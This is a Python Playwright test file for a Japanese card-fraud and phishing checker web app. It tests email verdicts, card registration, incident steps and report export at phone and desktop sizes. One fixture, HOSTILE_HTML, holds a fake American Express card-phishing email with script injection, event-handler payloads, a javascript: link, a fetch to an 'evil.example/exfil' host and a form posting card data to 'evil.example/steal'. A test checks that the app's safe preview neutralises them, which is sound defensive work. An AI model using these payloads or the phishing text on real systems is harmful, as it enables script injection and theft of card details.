"""The seed's story in a real browser at a phone's size, in Japanese: Playwright drives Debian's
Chromium against the real server on a free loopback port.

Screenshots of each page at phone and desktop size go to test-artifacts/screenshots/.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

import mailkit
from browserkit import DESKTOP, PHONE, chromium, drop_file, serving, shoot
from mailkit import ALIAS, message

# Two cores shared with the rest of the suite: give a page time before calling it broken.
expect.set_options(timeout=20_000)

HOSTILE_HTML = """
<html><head><style>body { background: url(https://evil.example/css-bg.png); }</style>
<link rel="stylesheet" href="https://evil.example/style.css"></head>
<body onload="window.__pwned = 'onload'">
<script>window.__pwned = 'script'; fetch('https://evil.example/exfil');</script>
<p>アメリカン・エキスプレスです。SafeKey認証のため、カード番号とセキュリティコードを入力してください。</p>
<img src="https://evil.example/track.gif" onerror="window.__pwned = 'onerror'">
<div style="background-image: url('https://evil.example/div-bg.png')">至急ご確認ください</div>
<form action="https://evil.example/steal" method="post"><input name="card"><button>送信</button></form>
<a href="javascript:window.__pwned='link'">https://www.americanexpress.com/jp/</a>
<iframe src="https://evil.example/frame"></iframe>
</body></html>
"""


@pytest.fixture(scope="module")
def amex_dns():
    with mailkit.amex_dns() as served:
        yield served


@pytest.fixture(scope="module")
def server(amex_dns, tmp_path_factory):
    """The real `cardguard serve`, with its own profile and the test DNS server in its config."""
    _, (host, port) = amex_dns
    home = tmp_path_factory.mktemp("web")
    (home / "config").mkdir()
    (home / "config" / "config.toml").write_text(
        f'[check]\nresolver = "{host}:{port}"\n\n[aliases]\namex-jp = ["{ALIAS}"]\n', encoding="utf-8")
    with serving(home, TZ="Asia/Tokyo") as (base, _):
        yield base, home


@pytest.fixture(scope="module")
def browser():
    with chromium() as launched:
        yield launched


@pytest.fixture
def phone(browser, server):
    base, _ = server
    context = browser.new_context(viewport=PHONE, locale="ja-JP", device_scale_factor=2, is_mobile=True,
                                  has_touch=True, accept_downloads=True)
    page = context.new_page()
    page.requests = []  # every URL the browser asked for
    page.on("request", lambda request: page.requests.append(request.url))
    yield page
    context.close()


def test_the_seed_story_in_the_browser(phone: Page, server, amex_dns):
    base, _ = server
    key, _ = amex_dns
    page = phone
    page.goto(base + "/")
    expect(page.locator("h1")).to_have_text("何がありましたか？")
    shoot(page, "phone-home")
    page.get_by_text("カード会社からメールが届いた").click()
    expect(page).to_have_url(base + "/check")

    # A SafeKey-styled phishing mail from a lookalike domain, to another alias.
    phishing = message(sender="safekey@americanexpress-safekey.com", to="shop.9qz@icloud.com")
    drop_file(page, "phishing.eml", phishing)
    verdict = page.locator("#verdict")
    expect(verdict).to_have_attribute("data-verdict", "phishing")
    expect(verdict.locator(".big")).to_have_text("フィッシング")
    expect(page.locator(".findings .decisive").first).to_contain_text("americanexpress-safekey.com")
    expect(page.locator(".findings")).to_contain_text("似せたもの")
    shoot(page, "phone-check-phishing")

    # The holder's card, registered with the alias they gave only to this issuer.
    page.goto(base + "/cards")
    page.get_by_text("カードを追加").click()
    add = page.locator("form[action='/cards']")
    add.get_by_label("自分で分かる呼び名").fill("アメックス")
    add.get_by_label("カード番号の下4桁").fill("1005")
    add.locator("select[name=product]").select_option("amex")
    add.locator("input[name=alias_email]").fill(ALIAS)
    add.get_by_role("button", name="保存").click()
    expect(page.locator("ul.cards")).to_contain_text("アメックス ****1005")

    # The genuine one: signed, checked against the test DNS server, sent to the holder's alias.
    page.goto(base + "/check")
    drop_file(page, "safekey.eml", mailkit.received_safekey(key))
    expect(page.locator("#verdict")).to_have_attribute("data-verdict", "genuine")
    expect(page.locator("#verdict .big")).to_have_text("本物")
    # The alias says which card: one number, the right one, open now.
    expect(page.locator(".calls a.call")).to_have_count(1)
    expect(page.locator(".calls a.call")).to_have_attribute("href", "tel:0120020120")
    expect(page.locator(".calls")).to_contain_text("受付中（24時間）")
    expect(page.locator("ol.steps")).to_contain_text("誰かがあなたのカード番号を持っています")
    shoot(page, "phone-check-genuine")

    # Start an incident from the verdict, tick a step, export the report.
    page.get_by_role("button", name="インシデントを開始").click()
    expect(page.locator("h1")).to_contain_text("身に覚えのない認証コードが届いた")
    expect(page.locator(".timeline")).to_contain_text("メールを確認：本物")
    # The checked mail on the timeline is the "verify the mail" step done.
    expect(page.locator(".progress")).to_have_text("9 手順中 1 完了")
    page.locator("#step-dont-click button.tick").click()
    expect(page.locator(".progress")).to_have_text("9 手順中 2 完了")
    expect(page.locator("#step-call-fraud a.call").first).to_have_attribute("href", "tel:0120020120")
    shoot(page, "phone-incident")
    with page.expect_download() as download:
        page.get_by_text("報告書（Markdown）").click()
    report = Path(download.value.path()).read_text(encoding="utf-8")
    assert "身に覚えのない認証コードが届いた" in report and "完了：リンクを開かず" in report

    page.goto(base + "/call?purpose=fraud")
    expect(page.locator("a.call").first).to_have_attribute("href", "tel:0120020120")
    shoot(page, "phone-call")
    page.goto(base + "/cards")
    shoot(page, "phone-cards")

    outside = [url for url in page.requests if not url.startswith(base) and not url.startswith("data:")]
    assert outside == []


def test_a_hostile_email_runs_nothing_and_fetches_nothing(phone: Page, server):
    base, _ = server
    page = phone
    page.goto(base + "/check")
    hostile = message(sender="info@americanexpress-secure.example", html=HOSTILE_HTML, to="x@example.jp")
    drop_file(page, "hostile.eml", hostile)
    expect(page.locator("#verdict")).to_have_attribute("data-verdict", "phishing")
    page.get_by_text("安全なプレビュー").click()
    frame = page.frame_locator("iframe.preview")
    expect(frame.locator("body")).to_contain_text("カード番号とセキュリティコード")
    for tag in ("script", "img", "form", "iframe", "a", "link", "style"):
        assert frame.locator(tag).count() == 0, tag
    page.wait_for_timeout(500)
    assert page.evaluate("window.__pwned") is None
    # Links are shown as text: nothing on the page points outside the app.
    assert page.locator('a[href^="javascript"], a[href*="evil.example"]').count() == 0
    expect(page.locator(".links")).to_contain_text("javascript:")
    outside = [url for url in page.requests if not url.startswith(base) and not url.startswith(("data:", "about:"))]
    assert outside == []


def test_desktop_screenshots(browser, server):
    base, _ = server
    context = browser.new_context(viewport=DESKTOP, locale="ja-JP")
    page = context.new_page()
    for path, name in (("/", "desktop-home"), ("/check", "desktop-check"), ("/call", "desktop-call"),
                       ("/cards", "desktop-cards"), ("/incidents", "desktop-incidents")):
        page.goto(base + path)
        expect(page.locator("h1")).to_be_visible()
        shoot(page, name)
    page.goto(base + "/check?lang=en")
    expect(page.locator("h1")).to_have_text("Is this email genuine?")
    context.close()
